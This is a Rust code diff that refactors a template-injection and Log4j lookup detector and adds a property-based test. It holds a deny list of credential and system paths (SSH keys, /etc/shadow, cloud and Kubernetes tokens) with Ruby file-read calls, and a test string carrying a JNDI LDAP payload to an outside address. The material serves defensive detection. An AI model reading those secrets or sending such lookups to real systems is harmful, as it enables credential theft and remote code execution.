@@ -557,7 +557,7 @@ fn squash(body: &str) -> String {
         }
     }
     // `.` after `(`, `|` or at the start is the squashed `[`, not a member.
-    out.replace("(.", "(").replace("|.", "|")
+    super::replaced(super::replaced(out, "(.", "("), "|.", "|")
 }
 
 /// The expressions of every engine in `text`, in one pass per delimiter
@@ -786,7 +786,7 @@ const LOG4J_PREFIXES: &[&str] = &[
 /// the obfuscating ones (`lower`, `upper`, an empty key with a default).
 fn log4j_lookup(text: &str) -> Option<(Range<usize>, bool)> {
     let mut from = 0;
-    while let Some(p) = text.get(from..).and_then(|r| r.find("${")) {
+    while let Some(p) = text.get(from..).and_then(|r| super::find(r, "${")) {
         let start = from + p;
         let body = text.get(start + 2..).unwrap_or("");
         if body.starts_with("::-") {
@@ -846,6 +846,56 @@ fn smarty_exec(body: &str, squashed: &str) -> bool {
         && (CODE_EXEC_RE.as_ref().is_some_and(|re| re.is_match(squashed)) || exec_modifier(squashed))
 }
 
+/// The calls [`reads_file`] reads (each holds a `(`).
+const READ_CALLS: &[&str] = &[
+    "file.read(",
+    "file.open(",
+    "file.new(",
+    "file.readlines(",
+    "file.binread(",
+    "file.foreach(",
+    "io.read(",
+    "io.readlines(",
+    "io.binread(",
+    "io.foreach(",
+    "kernel.open(",
+    "pathname.new(",
+    "pathname(",
+    "open(",
+    "file.send(:read,",
+    "file.public_send(:read,",
+    "io.send(:read,",
+];
+
+/// What a file read names when it reads a secret ([`reads_file`]).
+const READ_SECRETS: &[&str] = &[
+    "master.key",
+    "credentials",
+    ".env",
+    "secrets.yml",
+    "secret_key",
+    "id_rsa",
+    "id_ed25519",
+    "id_ecdsa",
+    "/.ssh/",
+    ".aws/",
+    ".kube/config",
+    ".docker/config.json",
+    ".git-credentials",
+    ".netrc",
+    ".npmrc",
+    ".pgpass",
+    "/etc/passwd",
+    "/etc/shadow",
+    "/etc/ssl/private",
+    "/proc/",
+    "/root/",
+    "/var/run/secrets/kubernetes.io",
+    "/run/secrets/kubernetes.io",
+    "serviceaccount/token",
+    "database.yml",
+];
+
 /// A Ruby file read of a secret in a template expression (squashed: lower
 /// case, no quotes or blanks): `File.open('/app/config/master.key').read`,
 /// `IO.read('../../.env')`, `Kernel.open('/etc/shadow')`,
@@ -856,72 +906,31 @@ fn smarty_exec(body: &str, squashed: &str) -> bool {
 /// reading the secret a container was given (`/run/secrets/db_password`)
 /// or a public file (`/etc/ssl/certs/...`) reads no more than it should.
 fn reads_file(squashed: &str) -> bool {
-    const CALLS: &[&str] = &[
-        "file.read(",
-        "file.open(",
-        "file.new(",
-        "file.readlines(",
-        "file.binread(",
-        "file.foreach(",
-        "io.read(",
-        "io.readlines(",
-        "io.binread(",
-        "io.foreach(",
-        "kernel.open(",
-        "pathname.new(",
-        "pathname(",
-        "open(",
-        "file.send(:read,",
-        "file.public_send(:read,",
-        "io.send(:read,",
-    ];
-    const SECRETS: &[&str] = &[
-        "master.key",
-        "credentials",
-        ".env",
-        "secrets.yml",
-        "secret_key",
-        "id_rsa",
-        "id_ed25519",
-        "id_ecdsa",
-        "/.ssh/",
-        ".aws/",
-        ".kube/config",
-        ".docker/config.json",
-        ".git-credentials",
-        ".netrc",
-        ".npmrc",
-        ".pgpass",
-        "/etc/passwd",
-        "/etc/shadow",
-        "/etc/ssl/private",
-        "/proc/",
-        "/root/",
-        "/var/run/secrets/kubernetes.io",
-        "/run/secrets/kubernetes.io",
-        "serviceaccount/token",
-        "database.yml",
-    ];
-    CALLS.iter().any(|call| {
-        squashed.match_indices(call).take(4).any(|(i, _)| {
-            // `open(` alone is Kernel's: not a method of something else.
-            if *call == "open("
-                && squashed.get(..i).and_then(|b| b.chars().next_back()).is_some_and(|c| c == '.' || c.is_alphanumeric() || c == '_')
-            {
-                return false;
-            }
-            let arg = squashed.get(i + call.len()..).unwrap_or("");
-            let arg = arg.split(')').next().unwrap_or("");
-            // A path joined from parts (`File.join('/', 'etc', 'shadow')`).
-            let joined = arg.split_once("file.join(").map(|(_, parts)| parts.replace(',', "/"));
-            let arg = joined.as_deref().unwrap_or_else(|| arg.split(',').next().unwrap_or(""));
-            // The innermost call's argument (`file.expand_path(~/.aws/...`).
-            let arg = arg.rsplit('(').next().unwrap_or(arg);
-            // (Squashing reads `(.` as a squashed `[`: `('.env')` is `(env`.)
-            let dotenv = matches!(arg, "env" | "env.local" | "env.production" | "env.development" | "env.staging");
-            dotenv || super::has(arg, "../") || SECRETS.iter().any(|s| super::has(arg, s))
-        })
-    })
+    // (`match_indices` builds a searcher per call even where the call is
+    // absent, as it nearly always is: the in-place test first.)
+    READ_CALLS
+        .iter()
+        .any(|call| super::has(squashed, call) && squashed.match_indices(call).take(4).any(|(i, _)| reads_secret_at(squashed, call, i)))
+}
+
+/// Whether the call `call` at byte `i` of `squashed` ([`reads_file`])
+/// reads a secret: its argument climbs out or names one.
+fn reads_secret_at(squashed: &str, call: &str, i: usize) -> bool {
+    // `open(` alone is Kernel's: not a method of something else.
+    if call == "open(" && squashed.get(..i).and_then(|b| b.chars().next_back()).is_some_and(|c| c == '.' || c.is_alphanumeric() || c == '_')
+    {
+        return false;
+    }
+    let arg = squashed.get(i + call.len()..).unwrap_or("");
+    let arg = arg.split(')').next().unwrap_or("");
+    // A path joined from parts (`File.join('/', 'etc', 'shadow')`).
+    let joined = arg.split_once("file.join(").map(|(_, parts)| parts.replace(',', "/"));
+    let arg = joined.as_deref().unwrap_or_else(|| arg.split(',').next().unwrap_or(""));
+    // The innermost call's argument (`file.expand_path(~/.aws/...`).
+    let arg = arg.rsplit('(').next().unwrap_or(arg);
+    // (Squashing reads `(.` as a squashed `[`: `('.env')` is `(env`.)
+    let dotenv = matches!(arg, "env" | "env.local" | "env.production" | "env.development" | "env.staging");
+    dotenv || super::has(arg, "../") || READ_SECRETS.iter().any(|s| super::has(arg, s))
 }
 
 /// Ruby's whole environment turned into text (`ENV.to_h.to_json`,
@@ -1163,6 +1172,24 @@ mod tests {
             top_in("Hello team. Please check ${jndi:ldap://198.51.100.7/a} when you can. Thanks for the help.", Context::Text),
             Some(Confidence::High)
         );
+    }
+    proptest::proptest! {
+        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(3000))]
+        /// `reads_file` skips the calls a text lacks: it says what reading
+        /// every call's matches says.
+        #[test]
+        fn file_reads_skip_absent_calls(parts in proptest::collection::vec((0usize..3, 0usize..64, "[a-z./(),:~_ ]{0,6}"), 0..8)) {
+            let text: String = parts
+                .iter()
+                .map(|(kind, i, free)| match kind {
+                    0 => READ_CALLS.get(i % READ_CALLS.len()).copied().unwrap_or(""),
+                    1 => READ_SECRETS.get(i % READ_SECRETS.len()).copied().unwrap_or(""),
+                    _ => free.as_str(),
+                })
+                .collect();
+            let every = READ_CALLS.iter().any(|call| text.match_indices(call).take(4).any(|(i, _)| reads_secret_at(&text, call, i)));
+            proptest::prop_assert_eq!(reads_file(&text), every);
+        }
     }
 }
 
